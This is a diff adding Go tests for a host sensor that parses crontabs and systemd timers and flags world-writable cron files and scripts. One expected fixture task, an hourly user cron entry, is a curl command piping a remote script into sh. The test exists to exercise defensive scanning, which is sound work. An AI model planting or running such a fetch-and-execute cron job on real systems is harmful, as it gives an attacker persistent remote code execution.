@@ -0,0 +1,99 @@
+package sensor
+
+import (
+	"context"
+	"os"
+	"path"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func Test_parseCrontab(t *testing.T) {
+	tasks := parseCrontab([]byte("PATH=/bin\n  # comment\n0 4 * * *  root  /bin/a  --b\n@weekly root /bin/c\n0 4 * *\n"), "/etc/cron.d/x", "")
+	assert.Equal(t, []ScheduledTask{
+		{Type: ScheduledTaskTypeCron, Schedule: "0 4 * * *", User: "root", Command: "/bin/a  --b", Source: "/etc/cron.d/x"},
+		{Type: ScheduledTaskTypeCron, Schedule: "@weekly", User: "root", Command: "/bin/c", Source: "/etc/cron.d/x"},
+	}, tasks)
+
+	// a user crontab has no user field
+	tasks = parseCrontab([]byte("*/5 * * * * /bin/a > /dev/null\n"), "/var/spool/cron/bob", "bob")
+	assert.Equal(t, []ScheduledTask{
+		{Type: ScheduledTaskTypeCron, Schedule: "*/5 * * * *", User: "bob", Command: "/bin/a > /dev/null", Source: "/var/spool/cron/bob"},
+	}, tasks)
+}
+
+func Test_commandPaths(t *testing.T) {
+	assert.Equal(t, []string{"/usr/sbin/anacron", "/etc/cron.daily"},
+		commandPaths("test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }"))
+	assert.Equal(t, []string{"/opt/a.sh", "/var/log/a.log"}, commandPaths(`sh -c "/opt/a.sh --log=/var/log/a.log" 2>/dev/null`))
+}
+
+func Test_senseScheduledTasks(t *testing.T) {
+	info, err := senseScheduledTasks(context.TODO(), "testdata/scheduledtasks/root")
+	require.NoError(t, err)
+
+	sources := []string{}
+	for _, source := range info.Sources {
+		sources = append(sources, source.Path)
+		assert.Empty(t, source.Risks)
+	}
+	// files with a dot are skipped, and the not executable run-parts file is a source without a task
+	assert.Equal(t, []string{
+		"/etc/crontab",
+		"/etc/cron.d/kube-backup",
+		"/etc/cron.hourly/notes",
+		"/etc/cron.daily/logrotate",
+		"/etc/cron.allow",
+		"/var/spool/cron/crontabs/alice",
+		"/lib/systemd/system/logrotate.timer",
+		"/lib/systemd/system/node-cleanup.timer",
+	}, sources)
+
+	assert.Equal(t, []ScheduledTask{
+		{Type: ScheduledTaskTypeCron, Schedule: "17 * * * *", User: "root", Command: "cd / && run-parts --report /etc/cron.hourly", Source: "/etc/crontab"},
+		{Type: ScheduledTaskTypeCron, Schedule: "25 6 * * *", User: "root", Command: "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }", Source: "/etc/crontab"},
+		{Type: ScheduledTaskTypeCron, Schedule: "*/30 * * * *", User: "root", Command: "/opt/scripts/etcd-backup.sh --dest /var/backups >/dev/null 2>&1", Source: "/etc/cron.d/kube-backup"},
+		{Type: ScheduledTaskTypeCron, Schedule: "@reboot", User: "nobody", Command: "/usr/bin/true", Source: "/etc/cron.d/kube-backup"},
+		{Type: ScheduledTaskTypeCron, Schedule: "@daily", User: "root", Command: "/etc/cron.daily/logrotate", Source: "/etc/cron.daily/logrotate"},
+		{Type: ScheduledTaskTypeCron, Schedule: "0 3 * * 1", User: "alice", Command: "/home/alice/report.sh", Source: "/var/spool/cron/crontabs/alice"},
+		{Type: ScheduledTaskTypeCron, Schedule: "@hourly", User: "alice", Command: "curl -s http://198.51.100.7/x | sh", Source: "/var/spool/cron/crontabs/alice"},
+		{Type: ScheduledTaskTypeTimer, Schedule: "OnCalendar=daily", User: "root", Command: "/usr/sbin/logrotate /etc/logrotate.conf", Source: "/lib/systemd/system/logrotate.timer"},
+		{Type: ScheduledTaskTypeTimer, Schedule: "OnBootSec=15min; OnUnitActiveSec=1d", User: "nobody", Command: "/opt/scripts/cleanup.sh", Source: "/lib/systemd/system/node-cleanup.timer"},
+	}, info.Tasks)
+}
+
+func Test_senseScheduledTasksWorldWritable(t *testing.T) {
+	rootDir := t.TempDir()
+	require.NoError(t, os.MkdirAll(path.Join(rootDir, "etc/cron.d"), 0o755))
+	require.NoError(t, os.MkdirAll(path.Join(rootDir, "opt"), 0o755))
+
+	crontab := path.Join(rootDir, "etc/cron.d/job")
+	require.NoError(t, os.WriteFile(crontab, []byte("* * * * * root /opt/job.sh && /opt/safe.sh && /opt/link.sh\n"), 0o644))
+	require.NoError(t, os.Chmod(crontab, 0o666))
+	script := path.Join(rootDir, "opt/job.sh")
+	require.NoError(t, os.WriteFile(script, []byte("#!/bin/sh\n"), 0o755))
+	require.NoError(t, os.Chmod(script, 0o777))
+	require.NoError(t, os.WriteFile(path.Join(rootDir, "opt/safe.sh"), []byte("#!/bin/sh\n"), 0o755))
+	// an absolute link is resolved in the host file system
+	require.NoError(t, os.Symlink("/opt/job.sh", path.Join(rootDir, "opt/link.sh")))
+
+	// an absolute link of a crontab is resolved in the host file system
+	require.NoError(t, os.MkdirAll(path.Join(rootDir, "opt/jobs"), 0o755))
+	require.NoError(t, os.WriteFile(path.Join(rootDir, "opt/jobs/linked"), []byte("@daily root /opt/safe.sh\n"), 0o644))
+	require.NoError(t, os.Symlink("/opt/jobs/linked", path.Join(rootDir, "etc/cron.d/linked")))
+
+	info, err := senseScheduledTasks(context.TODO(), rootDir)
+	require.NoError(t, err)
+
+	require.Len(t, info.Sources, 2)
+	assert.Equal(t, []string{ScheduledTaskRiskWorldWritableFile}, info.Sources[0].Risks)
+	assert.Equal(t, "/etc/cron.d/linked", info.Sources[1].Path)
+	assert.Empty(t, info.Sources[1].Risks)
+	require.Len(t, info.Tasks, 2)
+	assert.Equal(t, ScheduledTask{Type: ScheduledTaskTypeCron, Schedule: "@daily", User: "root", Command: "/opt/safe.sh", Source: "/etc/cron.d/linked"},
+		info.Tasks[1])
+	assert.Equal(t, []string{"/opt/job.sh", "/opt/link.sh"}, info.Tasks[0].WorldWritableScripts)
+	assert.Equal(t, []string{ScheduledTaskRiskWorldWritableScript}, info.Tasks[0].Risks)
+}